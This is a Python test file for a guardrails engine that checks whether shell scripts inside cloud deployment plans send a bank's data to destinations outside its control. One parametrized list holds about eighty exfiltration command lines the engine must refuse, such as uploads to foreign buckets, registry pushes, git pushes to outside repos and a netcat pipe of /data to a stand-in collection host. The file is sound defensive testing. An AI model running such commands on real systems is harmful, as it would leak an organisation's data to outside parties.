"""Where commands send data without an address (FJ-RES-003, FJ-RES-114), and what only loads or stays at home."""

import pytest
from guardrails.engine.enforcement import Enforcement
from guardrails.readers.commands import expanded, words_of
from guardrails.readers.upload_commands import sent_to

from .blind import ME, aws, az, k8s, meta
from .harness import Given, Pack, blocking

RULES = {"FJ-RES-003", "FJ-RES-114"}
OWN = f"{ME}.dkr.ecr.me-central-1.amazonaws.com"
PACK = Pack(
    Enforcement.model_validate(
        {
            "default": {"all": "mandatory"},
            "escape": {
                "code_sources": {
                    "https://github.com/example": "the bank's own organisation",
                    "https://docker.io/bank": "the bank's own account",
                }
            },
            "residency": {
                "known": {
                    "bank-data": "a bucket of the bank",
                    "git.example.ae": "the bank's own server",
                }
            },
        }
    )
)


def script(text: str) -> Given:
    return k8s("core/v1:ConfigMap", {"metadata": meta(), "data": {"run.sh": f"#!/bin/sh\n{text}\n"}})


def is_refused(*plan: Given) -> bool:
    return bool(RULES & blocking(PACK.evaluate_plan(*plan)))


@pytest.mark.parametrize(
    "text",
    [
        "aws s3api put-object --bucket someones-bucket --key a --body a",
        "aws --region me-central-1 s3api create-multipart-upload --bucket=someones-bucket --key a",
        "B=someones-bucket; aws s3 sync /data s3://${B}/in",
        "az storage blob upload-batch --account-name someonesaccount -d in -s /data",
        "az storage file copy start --destination-account-name someonesaccount",
        "docker push someone/app:1",
        "docker buildx build --push -t someone/app .",
        "AZURE_STORAGE_ACCOUNT=someonesaccount az storage blob upload -c in -f a",
        "git config --global url.https://github.com/someone/.insteadOf https://git.example.ae/ && git push",
        "git push --repo=https://github.com/someone/dump.git",
        "git push github.com:someone/dump.git",
        "gh repo create someone/dump --source . --push",
        "podman push --tls-verify app:1 docker.io/someone/app:1",
        "crane push app.tar ghcr.io/someone/app:1",
        "helm push app.tgz oci://ghcr.io/someone",
        "oras push ghcr.io/someone/data:1 dist/data.tgz",
        "crane copy base:1 docker.io/someone/app:1",
        "docker run collect.somebody.example.com; nc collect.somebody.example.com < /data/a",
        "docker pull ghcr.io/kyverno/kyverno; curl -T a https://ghcr.io/kyverno/kyverno",
        "crane copy app:1 docker.io/someone/app:1",
        "tar c /data | crane append -f - -t public.ecr.aws/s0m30ne/rows:latest",
        "skopeo copy docker-archive:app.tar docker://quay.io/someone/app:1",
        "git push https://$TOKEN@github.com/someone/dump.git",
        "git push https://${TOKEN}@github.com/someone/dump.git HEAD:main",
        "git push https://github.com/someone/dump.git",
        "git remote add out git@gitlab.com:someone/dump.git && git push --all out",
        "git -C /src push ssh://git@bitbucket.org/someone/dump.git",
        "rclone config create out gdrive_x scope=drive",
        "cat > rclone.conf <<E\n[out]\ntype = dropbox\nE\nrclone copy /data out:",
        "python -c \"boto3.client('s3').upload_file(path, 'someones-bucket', key)\"",
        "push_to_hub=true python train.py --push_to_hub",
        "docker buildx build -t someone/app --output type=registry .",
        "docker buildx build --output type=image,name=someone/app,push=true .",
        "docker buildx build --push --tag=someone/app .",
        "docker buildx bake --push --set *.tags=someone/app",
        "docker buildx imagetools create -t someone/app bank.example.ae/app",
        "docker push -a someone/app",
        "docker push ghcr.io/$OWNER/app:1",
        "finch push someone/app",
        "podman farm build -t docker.io/someone/app .",
        "buildah commit app docker://ghcr.io/someone/app:1",
        "buildctl build --output type=image,name=docker.io/someone/app,push=true",
        "ctr -n k8s.io images push docker.io/someone/app:1 docker.io/bank/app:1",
        "crane mutate --append rows.tar -t someone/app bank/app",
        "crane flatten -t someone/app bank/app",
        "crane rebase --tag someone/app bank/app",
        "gcrane cp bank/app someone/app",
        "regctl artifact put someone/rows -f rows.csv",
        "regctl image import someone/app app.tar",
        "regctl image mod bank/app --create someone/app",
        "regctl repo copy bank/app someone/app",
        "regctl blob put someone/rows < rows.csv",
        "regctl index add someone/app --ref bank/app",
        "oras attach --artifact-type a/b ghcr.io/someone/data:1 rows.csv",
        "oras push --artifact-type a/b ghcr.io/someone/data:1 rows.csv",
        "oras restore --input backup ghcr.io/someone/data",
        "cosign upload blob -f rows.csv ghcr.io/someone/rows",
        "apptainer push app.sif oras://ghcr.io/someone/app",
        "singularity push app.sif library://someone/app/app",
        "helm push app.tgz oci://ghcr.io/someone --username bank",
        "git -C /src -c user.name=x push https://github.com/someone/dump.git",
        "git -C /src remote add out https://github.com/someone/dump.git; git -C /src push out",
        "git -C /src config remote.origin.pushurl https://github.com/someone/dump.git; git push",
        "git -c url.https://github.com/someone/.insteadOf=https://git.example.ae/ push https://git.example.ae/a",
        "git -c remote.origin.pushurl=https://github.com/someone/dump.git push",
        "git send-pack github.com:someone/dump.git main",
        "aws s3api put-object-annotation --bucket someones-bucket --key a --annotation-name b",
        "az storage fs file append --account-name someonesaccount --content a -p b -f c",
        "az storage entity merge --account-name someonesaccount -t rows -e a=b",
        "az storage message update --account-name someonesaccount --content a",
        "RCLONE_AZUREBLOB_ACCOUNT=someonesaccount rclone copy /data :azureblob:in",
        "rclone copy /data :azureblob:in --azureblob-account someonesaccount",
        "cat > rclone.conf <<E\n[out]\ntype = azureblob\nkey = a\naccount = someonesaccount\nE\nrclone copy a out:b",
        "az acr import -n someonesregistry --source bank.azurecr.io/app:1",
        "az acr build -r someonesregistry -t app .",
        "python -c \"boto3.resource('s3').Object('someones-bucket', key).put(Body=rows)\"",
        "python -c \"boto3.resource('s3').Bucket('someones-bucket').Object(key).upload_file(path)\"",
        "python -c \"s3.copy({'Bucket': 'bank-data', 'Key': key}, 'someones-bucket', key)\"",
        "node -e \"new PutObjectCommand({ Bucket: 'someones-bucket', Key: key, Body: rows })\"",
    ],
)
def test_a_destination_without_an_address_is_read(text: str) -> None:
    assert is_refused(script(text))


@pytest.mark.parametrize(
    "text",
    [
        "aws s3api put-object --bucket bank-data --key a --body a",
        "aws s3api get-object --bucket someones-bucket --key a a",
        "B=bank-data; aws s3 sync /data s3://${B}/in",
        "az storage blob download --account-name someonesaccount -c in -n a",
        f"docker push {OWN}/app:1",
        "docker push $REGISTRY/app:1",
        f"helm push dist/app.tgz oci://{OWN}/charts",
        f"oras push {OWN}/data:1 dist/data.tgz",
        f"crane push dist/app.tar {OWN}/app:1",
        f"crane copy ghcr.io/kyverno/kyverno:v1 {OWN}/kyverno:v1",
        f"crane append -f a.tar -t {OWN}/data:v1",
        "docker push bank/app:1",
        "docker buildx build -t someone/app --output type=docker .",
        "docker buildx build -t someone/app --load .",
        f"docker buildx imagetools create -t {OWN}/app:2 {OWN}/app:1",
        f"oras push --artifact-type application/vnd.example.rows {OWN}/data:1 dist/data.tgz",
        f"crane mutate -t {OWN}/app:2 {OWN}/app:1",
        f"regctl artifact put --artifact-type application/example {OWN}/rows -f rows.csv",
        f"apptainer push app.sif oras://{OWN}/app",
        "apptainer pull app.sif oras://ghcr.io/kyverno/kyverno:v1",
        "podman push app:1 localhost/app:1",
        "git -C /src -c user.name=x push origin main",
        "git -C /src -c user.name=x push https://github.com/example/app.git",
        "az storage account update --account-name someonesaccount",
        "az acr login -n someonesregistry",
        "az keyvault secret show --vault-name someones-vault --name a",
        "node -e \"new PutObjectCommand({ Bucket: 'bank-data', Key: key, Body: rows })\"",
        f"skopeo copy docker://ghcr.io/kyverno/kyverno:v1 docker://{OWN}/kyverno:v1",
        "git push https://$TOKEN@github.com/example/app.git",
        "docker pull ghcr.io/kyverno/kyverno:v1",
        "git push origin main",
        "git push origin HEAD:main",
        "git push git@git.example.ae:team/app.git",
        f"docker buildx build --push -t {OWN}/app .",
        "docker buildx build -t bank/app .",
        "git push https://github.com/example/app.git",
        "git push https://$TOKEN@git.example.ae/team/app.git",
        "git clone https://github.com/example/app.git && git remote add up https://github.com/example/up.git",
        "git remote add up https://github.com/someone/app.git && git fetch up",
        "cat > rclone.conf <<E\n[out]\ntype = s3\nE\nrclone copy /data out:bank-data",
        "python -c \"boto3.client('s3').upload_file(path, 'bank-data', key)\"",
    ],
)
def test_what_stays_at_home_or_only_loads_passes(text: str) -> None:
    assert not is_refused(script(text))


def test_a_bucket_and_an_account_of_the_plan_pass() -> None:
    bucket = aws("s3/Bucket", {"bucket": "falaj-in"}, "bucket")
    machine = aws("ec2/LaunchTemplate", {"userData": "#!/bin/sh\naws s3api put-object --bucket falaj-in --key a\n"})
    assert not is_refused(bucket, machine)
    assert is_refused(machine)
    account = az("storage:StorageAccount", {"accountName": "falajin", "location": "uaenorth"}, "account")
    upload = script("az storage blob upload --account-name falajin -c in -f a")
    assert not is_refused(account, upload)
    assert is_refused(upload)


def test_variables_and_parts_of_a_script() -> None:
    assert expanded('A=one\nB="$A/two"; run $B ${C:-three} $D') == 'A=one\nB="one/two"; run one/two three $D'
    assert list(words_of("# a b\nx 'y' \\\n  z; w | v && u")) == [("x", "y", "z"), ("w",), ("v",), ("u",)]
    assert sent_to("nothing here") == ()
    assert [item.name for item in sent_to("az keyvault secret set --vault-name some --file a")] == [
        "some.vault.azure.net"
    ]
